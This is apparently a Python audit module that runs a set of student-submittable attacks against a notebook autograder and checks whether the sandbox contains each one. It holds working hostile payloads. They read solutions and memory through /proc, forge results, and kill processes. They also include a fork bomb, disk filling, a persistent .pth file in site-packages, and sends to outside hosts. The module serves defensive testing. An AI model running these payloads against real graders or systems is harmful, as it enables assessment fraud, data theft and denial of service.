"""`autograder audit`: a cheating student's attacks, graded for real, and whether each was contained.

Each attack is code a student could submit. It is added to every exercise's answer cell of a notebook of the
course, after the release's unanswered stubs, so the notebook honestly scores what the untouched release scores
(normally 0), and every exercise's child runs it. An attack is contained when

- the attacked notebook scores exactly what the notebook without the attack scores, exercise by exercise;
- nothing outside the child's scratch folder changed (the course folder, the submissions and output folders,
  the Python installation's top level, the shared temporary folders);
- no process it started is still alive afterwards;
- nothing it wrote (a marker string in its messages, output, names and results) reaches the feedback or any
  results file, and no network listener of the audit received anything from it.

The attacks assume nothing about the course beyond nbgrader's layout: they look for the instructor
notebooks and checks where a student would (the working folder, parents, /proc, the loaded modules).
"""

from __future__ import annotations

import json
import os
import socket
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

MARKER = "AG-EXFIL-7Q2Z"  # what attacks try to smuggle out; it must never come back
DAEMON_NAME = b"ag-attack"  # the process name attack daemons take (to find survivors)

# Code every attack can use: where a student would look for the course.
_FIND = r"""
import glob as _g, os as _o, sys as _s, json as _j
def _course_roots():
    roots = {_o.getcwd(), _o.path.expanduser("~"), "/", "/autograder", "/autograder/source", "/work", "/tmp"}
    for m in list(_s.modules.values()):
        f = getattr(m, "__file__", None) or ""
        if f:
            p = _o.path.dirname(f)
            for _ in range(6):
                roots.add(p); p = _o.path.dirname(p)
    roots.update(p for p in _s.path if p)
    for pid in ("self", str(_o.getppid()), "1"):
        try:
            roots.add(_o.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    for k, v in _o.environ.items():
        if v.startswith("/"):
            roots.add(v)
    return roots
def _find(pattern):
    found = []
    for r in _course_roots():
        try:
            found += _g.glob(_o.path.join(r, pattern))
        except Exception:
            pass
    return sorted(set(found))
"""


@dataclass(frozen=True)
class Attack:
    """One attack: the code a student puts in an answer cell, and the class of harm it tries."""

    name: str
    harm: str
    code: str
    listens: bool = False  # the audit opens TCP and UDP listeners on localhost; their ports replace AG_PORTS


# write every probe's result as 'ok' with EMPTY data into every descriptor that may be the result pipe
FORGED_PAYLOAD = r"""
import os, sys, json
names = []
for module in list(sys.modules.values()):
    registry = getattr(module, "PROBES", None)
    if isinstance(registry, dict):
        for probes in registry.values():
            names += list(probes)
payload = json.dumps({"cell_error": None, "probes": {n: {"ok": True, "data": EMPTY} for n in names}})
for fd in range(3, 64):
    try:
        os.write(fd, payload.encode())
        os.close(fd)
    except OSError:
        pass
os._exit(0)
"""


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "read-solutions",
        "read the instructor notebooks and run their solution cells",
        _FIND
        + r"""
for path in _find("source/*/*.ipynb") + _find("*/source/*/*.ipynb"):
    try:
        nb = _j.load(open(path))
    except Exception:
        continue
    for cell in nb.get("cells", []):
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            try:
                exec("".join(cell["source"]), globals())
            except Exception:
                pass
""",
    ),
    Attack(
        "read-checks",
        "read the hidden checks and raise their text",
        _FIND
        + r"""
texts = []
for path in _find("autograder/checks/*.py") + _find("*/autograder/checks/*.py") + _find("tests/mutants/*.py"):
    try:
        texts.append(open(path).read())
    except Exception:
        pass
if texts:
    raise RuntimeError("AG-EXFIL-7Q2Z" + "".join(texts)[:3000])
""",
    ),
    Attack(
        "read-memory",
        "read the grader's memory through /proc/<pid>/mem and look for solutions in the child's own memory",
        r"""
import gc, os, re
stolen = []
for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()][:200]:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if end - start < 50_000_000 and "rw" in line.split()[1]:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                    stolen += re.findall(rb"### BEGIN SOLUTION(.{0,400})", chunk, re.S)[:5]
    except Exception:
        pass
for obj in gc.get_objects():
    code = getattr(obj, "__code__", None)
    if code is not None and ("<cell" in code.co_filename or "stand-in" in code.co_filename):
        stolen.append(code.co_filename.encode() + b" " + obj.__name__.encode())
        globals().setdefault(obj.__name__, obj)
if stolen:
    raise RuntimeError("AG-EXFIL-7Q2Z" + repr(stolen)[:3000])
""",
    ),
    Attack(
        "smuggle-text",
        "carry text out in an exception message, printed output, a class name and returned strings",
        r"""
class AG_EXFIL_7Q2Z(Exception):
    pass
print("AG-EXFIL-7Q2Z " * 1000)
import sys
sys.stderr.write("AG-EXFIL-7Q2Z")
_original = globals().get("__builtins__")
def _smuggle(*args, **kwargs):
    raise AG_EXFIL_7Q2Z("AG-EXFIL-7Q2Z in the message")
raise AG_EXFIL_7Q2Z("AG-EXFIL-7Q2Z in the message")
""",
    ),
    Attack(
        "forge-payload",
        "write its own results (every probe 'ok' with empty data) into the result pipe and exit",
        FORGED_PAYLOAD.replace("EMPTY", "{}"),
    ),
    Attack(
        "forge-payload-lists",
        "write its own results (every probe 'ok' with empty lists) into the result pipe and exit",
        FORGED_PAYLOAD.replace("EMPTY", "[]"),
    ),
    Attack(
        "forge-results-and-kill",
        "write a full-marks results.json wherever the grader might write, then kill the grader",
        _FIND
        + r"""
import os, signal, json
forged = json.dumps({"score": 1000, "tests": [], "output": "AG-EXFIL-7Q2Z"})
targets = ["results.json", "/autograder/results/results.json", "/tmp/results.json"]
for root in _course_roots():
    targets += [os.path.join(root, "results.json"), os.path.join(root, "graded", "grades.csv")]
for target in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
        open(target, "w").write(forged)
    except Exception:
        pass
for pid in [os.getppid(), 1, -1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
""",
    ),
    Attack(
        "daemon",
        "leave a daemon (setsid, double fork) that writes results and kills processes after the run",
        _FIND
        + r"""
import os, time, signal, ctypes
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            ctypes.CDLL(None).prctl(15, b"ag-attack", 0, 0, 0)
        except Exception:
            pass
        for _ in range(600):
            time.sleep(0.05)
            for root in _course_roots():
                try:
                    open(os.path.join(root, "graded", "grades.csv"), "a").write("AG-EXFIL-7Q2Z\n")
                except Exception:
                    pass
            try:
                os.kill(-1, signal.SIGKILL)
            except Exception:
                pass
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
""",
    ),
    Attack(
        "persist",
        "append code to the hidden checks, the instructor notebooks and the Python installation",
        _FIND
        + r"""
import os, site, sys
payload = "\n# AG-EXFIL-7Q2Z\n"
for path in _find("autograder/checks/*.py") + _find("autograder/*.py") + _find("source/*/*.ipynb"):
    try:
        open(path, "a").write(payload)
    except Exception:
        pass
for folder in set(site.getsitepackages() + [site.getusersitepackages(), sys.prefix]):
    try:
        open(os.path.join(folder, "ag_exfil.pth"), "w").write("import os; os.system('true')\n")
    except Exception:
        pass
""",
    ),
    Attack(
        "network",
        "send the solutions out over TCP and UDP (to listeners of the audit and to another host)",
        r"""
import os, socket
ports = [int(p) for p in "AG_PORTS".split(",") if p.isdigit()]
for host, port in [("127.0.0.1", p) for p in ports] + [("1.1.1.1", 53), ("8.8.8.8", 443)]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(0.5)
            s.connect((host, port))
            s.send(b"AG-EXFIL-7Q2Z")
            s.close()
        except Exception:
            pass
""",
        listens=True,
    ),
    Attack(
        "fork-bomb",
        "start processes without end",
        r"""
import os
children = 0
for _ in range(100_000):
    try:
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
    except OSError:
        break
""",
    ),
    Attack(
        "exhaust-grader",
        "send results built to exhaust the grader's memory and time",
        r"""
import os, json
deep = "[" * 100_000 + "]" * 100_000
wide = json.dumps({"cell_error": None, "probes": {"x": {"ok": True, "data": [[0.5] * 1000] * 3000}}})
huge = '{"cell_error": null, "probes": {"x": {"ok": true, "data": {"$tensor": ["float64", [100000, 100000], "AAAA"]}}}}'
for text in (deep, wide, huge, "x" * 50_000_000):
    for fd in range(3, 64):
        try:
            os.write(fd, text.encode())
        except OSError:
            pass
os._exit(0)
""",
    ),
    Attack(
        "kill-siblings",
        "kill every process it can signal (other students' children, the reference runs, the fork server)",
        r"""
import os, signal
for _ in range(3):
    try:
        os.kill(-1, signal.SIGKILL)
    except Exception:
        pass
for pid in range(2, 65536):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
""",
    ),
    Attack(
        "fill-disk",
        "fill the disk from its scratch folder, the temporary folders and its home",
        r"""
import os
block = b"\0" * (1 << 20)
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    for i in range(400):
        try:
            with open(os.path.join(folder, f"ag-fill-{i}"), "wb") as f:
                for _ in range(64):
                    f.write(block)
        except Exception:
            break
""",
    ),
    Attack(
        "terminal-and-signals",
        "write forged lines to the grader's terminal and signal the grader",
        r"""
import os, signal
for pid in ["1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    for fd in ("1", "2"):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as out:
                out.write("AG-EXFIL-7Q2Z graded 12/12\n")
        except Exception:
            pass
    try:
        os.kill(int(pid), signal.SIGTERM)
    except Exception:
        pass
""",
    ),
)


@dataclass
class AttackResult:
    """How the grader held up against one attack."""

    name: str
    harm: str
    scores: dict[int, float]
    expected: dict[int, float]
    changed: list[str] = field(default_factory=list)
    survivors: list[str] = field(default_factory=list)
    leaked: list[str] = field(default_factory=list)
    received: int = 0

    @property
    def contained(self) -> bool:
        return self.scores == self.expected and not (self.changed or self.survivors or self.leaked or self.received)

    def line(self) -> str:
        if self.contained:
            return f"contained  {self.name}: {self.harm}"
        problems = []
        if self.scores != self.expected:
            problems.append(f"scores {self.scores} instead of {self.expected}")
        problems += [f"changed {c}" for c in self.changed[:5]]
        problems += [f"survivor {s}" for s in self.survivors[:5]]
        problems += [f"leaked into {x}" for x in self.leaked[:5]]
        if self.received:
            problems.append(f"the network listeners received {self.received} bytes")
        return f"BREACHED   {self.name}: {self.harm}: " + "; ".join(problems)


def watched_folders(course_root: Path) -> list[tuple[Path, bool]]:
    """Where an attack must not change anything: (folder, whole tree or top level only)."""
    import site
    import sys

    folders = [(course_root, True)]
    folders += [(Path(p), False) for p in (tempfile.gettempdir(), "/var/tmp", "/dev/shm", str(Path.home()))]
    folders += [(Path(p), False) for p in site.getsitepackages() + [sys.prefix]]
    return [(f, deep) for f, deep in dict.fromkeys(folders) if f.exists()]


PRUNED = {".venv", "__pycache__", ".pytest_cache", ".ruff_cache", "node_modules"}


def snapshot(folders: list[tuple[Path, bool]], skip: tuple[Path, ...] = ()) -> dict[str, tuple[int, int]]:
    """(size, mtime) of every file under the folders (a whole tree, or the top level)."""
    state = {}
    skipped = {str(s) for s in skip}
    for folder, deep in folders:
        for top, dirs, files in os.walk(folder):
            dirs[:] = [d for d in dirs if d not in PRUNED and os.path.join(top, d) not in skipped] if deep else []
            for name in [*files, *(dirs if not deep else [])]:
                path = os.path.join(top, name)
                try:
                    info = os.lstat(path)
                except OSError:
                    continue
                state[path] = (info.st_size, info.st_mtime_ns)
            if not deep:
                dirs[:] = []
                for name in os.listdir(top):
                    try:
                        info = os.lstat(os.path.join(top, name))
                    except OSError:
                        continue
                    state[os.path.join(top, name)] = (info.st_size, info.st_mtime_ns)
                break
    return state


def difference(before: dict, after: dict) -> list[str]:
    return sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))


def attack_made(path: str) -> bool:
    """Whether a changed entry of a shared folder (/tmp, site-packages, ...) looks like the attack's doing:
    owned by a child's uid, named like the attacks' files, or holding the marker. Other programs on the machine
    change these folders too."""
    from autograder.sandbox import FIRST_UID

    name = os.path.basename(path)
    if name.startswith(("ag-", "ag_")) or name in ("results.json", "grades.csv"):
        return True
    try:
        info = os.lstat(path)
        if FIRST_UID <= info.st_uid < FIRST_UID + 100_000:
            return True
        if os.path.isfile(path) and info.st_size < 10_000_000:
            with open(path, "rb") as handle:
                return MARKER.encode() in handle.read()
    except OSError:
        return False
    return False


def survivors() -> list[str]:
    """Processes an attack left: named like its daemons, or running as a child's uid."""
    from autograder.sandbox import FIRST_UID

    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            comm = (entry / "comm").read_bytes().strip()
            uid = int((entry / "status").read_text().split("Uid:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            continue
        if comm == DAEMON_NAME or FIRST_UID <= uid < FIRST_UID + 100_000:
            found.append(f"pid {entry.name} ({comm.decode(errors='replace')}, uid {uid})")
    return found


class Listeners:
    """A TCP and a UDP listener on localhost that count the bytes they receive."""

    def __init__(self):
        self.received = 0
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    @property
    def ports(self) -> str:
        return f"{self.tcp.getsockname()[1]},{self.udp.getsockname()[1]}"

    def serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.tcp.accept()
                self.received += len(conn.recv(4096)) or 1
                conn.close()
            except OSError:
                pass
            try:
                self.received += len(self.udp.recv(4096)) or 1
            except OSError:
                pass

    def close(self) -> int:
        self.stop.set()
        self.thread.join(2)
        self.tcp.close()
        self.udp.close()
        return self.received


def grader_written(path: Path) -> str:
    """The text the grader wrote in an output file: for an autograded notebook its outputs only, since its cells
    are the student's own code (which contains the attack's marker)."""
    text = path.read_text(errors="replace")
    if path.suffix != ".ipynb":
        return text
    try:
        cells = json.loads(text).get("cells", [])
    except ValueError:
        return text
    return json.dumps([cell.get("outputs", []) for cell in cells])


def attacked_notebook(assignment, code: str):
    """The release notebook with `code` after the stub in every exercise's first answer cell."""
    from autograder.samples import release_notebook

    nb = release_notebook(assignment)
    firsts = {ex.grade_ids[0] for ex in assignment.exercises}
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade_id") in firsts:
            cell.source = cell.source + "\n" + code
    return nb


def run_attack(assignment, attack: Attack, expected: dict[int, float], out: Path, timeout: float = 20) -> AttackResult:
    """Grade the attacked notebook as a one-submission class and judge the aftermath."""
    import nbformat

    from autograder.course import current_course
    from autograder.grading import grade_directory

    folder = out / "submitted"
    target = folder / "mallory" / assignment.id / f"{assignment.id}.ipynb"
    target.parent.mkdir(parents=True, exist_ok=True)
    listeners = Listeners() if attack.listens else None
    code = attack.code.replace("AG_PORTS", listeners.ports) if listeners else attack.code
    nbformat.write(attacked_notebook(assignment, code), target)
    graded = out / "graded"
    course = [(current_course().root, True), (out, True)]
    shared = [f for f in watched_folders(current_course().root) if f[0] != current_course().root]
    before, before_shared = snapshot(course, skip=(graded,)), snapshot(shared)
    [result] = grade_directory(folder, graded, exercise_timeout=timeout, progress=False, jobs=1)
    time.sleep(0.5)  # let anything still running show itself
    received = listeners.close() if listeners else 0
    after, after_shared = snapshot(course, skip=(graded,)), snapshot(shared)
    scores = {ex.number: ex.score for ex in result.exercises}
    texts = {str(p): grader_written(p) for p in graded.rglob("*") if p.is_file()}
    leaked = [name for name, text in texts.items() if MARKER in text or "AG_EXFIL" in text]
    changed = difference(before, after) + [p for p in difference(before_shared, after_shared) if attack_made(p)]
    return AttackResult(attack.name, attack.harm, scores, expected, changed, survivors(), leaked, received)


def audit_course(assignment=None, attacks: tuple[Attack, ...] = ATTACKS, timeout: float = 20) -> list[AttackResult]:
    """Run every attack against `assignment` (default: the course's first assignment with hidden checks)."""
    import shutil

    from autograder.course import course_assignments
    from autograder.grading import grade_submission
    from autograder.samples import release_notebook

    if assignment is None:
        assignment = next(a for a in course_assignments() if a.has_checks)
    results = []
    with tempfile.TemporaryDirectory(prefix="autograder-audit-") as tmp:
        import nbformat

        clean = Path(tmp) / "clean" / f"{assignment.id}.ipynb"
        clean.parent.mkdir()
        nbformat.write(release_notebook(assignment), clean)
        baseline = grade_submission(clean, exercise_timeout=timeout)
        expected = {ex.number: ex.score for ex in baseline.exercises}
        for attack in attacks:
            out = Path(tmp) / attack.name
            results.append(run_attack(assignment, attack, expected, out, timeout))
            shutil.rmtree(out, ignore_errors=True)
    return results


def report(results: list[AttackResult], protections: str) -> str:
    lines = [r.line() for r in results]
    contained = sum(r.contained for r in results)
    lines.append(f"attacks contained: {contained}/{len(results)}")
    lines.append(protections)
    return "\n".join(lines)


def to_json(results: list[AttackResult]) -> str:
    return json.dumps([r.__dict__ | {"contained": r.contained} for r in results], indent=2)
